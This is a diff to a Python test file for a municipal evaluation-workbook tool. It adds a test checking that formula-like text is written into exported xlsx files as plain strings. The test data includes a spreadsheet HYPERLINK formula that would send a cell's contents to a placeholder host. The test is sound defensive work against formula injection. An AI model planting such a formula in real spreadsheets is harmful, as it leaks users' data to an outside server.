@@ -14,11 +14,22 @@ import time
 from collections.abc import Callable
 from pathlib import Path
 
+import openpyxl
 import pytest
-from corpus import ROOT, sheet_part, workbook_parts, write_parts
+from corpus import (
+    ROOT,
+    WORKBOOK,
+    read_records,
+    sheet_part,
+    to_workbook,
+    workbook_parts,
+    write_parts,
+    write_records,
+)
 
 from helpers import cli
-from helpers.data.evaluation_workbook import SHEET_ITEMS
+from helpers.data.city import load_city
+from helpers.data.evaluation_workbook import SHEET_ITEMS, collect_workbooks
 
 EXAMPLE = ROOT / "data" / "example-city"
 AS_OF = "令和7年度末"
@@ -81,3 +92,65 @@ def test_a_broken_returned_workbook_is_refused(
     assert state(data) == before
     if edit == "unzips_to_300_mb":
         assert "展開すると大きすぎます" in output  # refused before anything is unpacked
+
+
+# --- text that looks like a formula --------------------------------------------------------------
+
+LEAK = '=HYPERLINK("http://example.invalid/?leak="&C2,"x")'
+
+
+def formula_like_texts(data: Path) -> None:
+    """項目名 =1+1 for plan 2 item 1; every 評価理由 of 令和6年度末 a hyperlink; 課題 #N/A."""
+    items = read_records(data / "items.csv")
+    head = items[0]
+    for record in items[1:]:
+        if record[head.index("計画ID")] == "2" and record[head.index("項目番号")] == "1":
+            record[head.index("項目名")] = "=1+1"
+    write_records(data / "items.csv", items)
+    statuses = read_records(data / "statuses.csv")
+    head = statuses[0]
+    for record in statuses[1:]:
+        if record[head.index("時点")] == "令和6年度末":
+            record[head.index("評価理由")] = LEAK
+            record[head.index("課題")] = "#N/A"
+    write_records(data / "statuses.csv", statuses)
+
+
+def formulas(path: Path) -> list[str]:
+    """The sheets of a workbook that hold a formula (an ``<f>`` element)."""
+    return [
+        name
+        for name, xml in workbook_parts(path).items()
+        if name.startswith("xl/worksheets/") and (b"<f>" in xml or b"<f " in xml)
+    ]
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    data = tmp_path / "example-city"
+    shutil.copytree(EXAMPLE, data)
+    formula_like_texts(data)
+    sent = tmp_path / "sent"
+    start = ["round", "start", AS_OF, "--data", str(data), "--out", str(sent)]
+    assert cli.main([*start, "--deadline", "2026-05-29"]) == 0, capsys.readouterr()
+    texts = []
+    for path in sorted(sent.glob("*.xlsx")):
+        assert formulas(path) == [], path.name
+        book = openpyxl.load_workbook(path)
+        for row in book[SHEET_ITEMS].iter_rows(min_row=2):
+            texts += [(c.value, c.data_type) for c in row if c.value in (LEAK, "=1+1", "#N/A")]
+    assert (LEAK, "s") in texts and ("=1+1", "s") in texts and ("#N/A", "s") in texts
+    assert {t for _, t in texts} == {"s"}
+    # read back: the same text, so the name is not "edited" and the reason is kept
+    collection = collect_workbooks(sent, load_city(data))
+    assert [p for p in collection.problems if p.code == "edited_locked"] == []
+    answers = [i.answers for d in collection.departments for i in d.items]
+    assert LEAK in {a["reason"] for a in answers}
+    assert "#N/A" in {a["challenges"] for a in answers}
+
+    to_workbook(data)  # csv_to_workbook writes its cells the same way
+    assert formulas(data / WORKBOOK) == []
+    city = load_city(data)
+    assert "=1+1" in set(city.items["name"])
+    assert LEAK in set(city.statuses["reason"])
